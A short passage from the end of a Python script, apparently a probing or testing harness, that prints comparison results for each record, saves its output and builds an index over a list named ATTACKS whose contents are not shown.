              f"{(record['error'] or '')[:120]!r} concurrent={record['concurrent']['equal']} "
              f"following={record['following']['equal']}", flush=True)
    out["final"] = compare(run_probe())
    out["done"] = True
    save_out()


ATTACKS_INDEX = {name: i for i, name in enumerate(ATTACKS)}

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    main(sys.argv[1], sys.argv[2])
